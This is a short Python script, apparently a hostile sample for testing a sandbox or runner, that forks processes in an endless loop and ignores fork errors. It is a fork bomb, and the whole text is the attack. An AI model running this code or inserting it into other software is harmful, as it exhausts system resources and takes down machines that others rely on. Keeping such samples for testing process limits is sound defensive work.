import os

# Never answers: forks for ever (each child forks too).
while True:
    try:
        os.fork()
    except OSError:
        pass
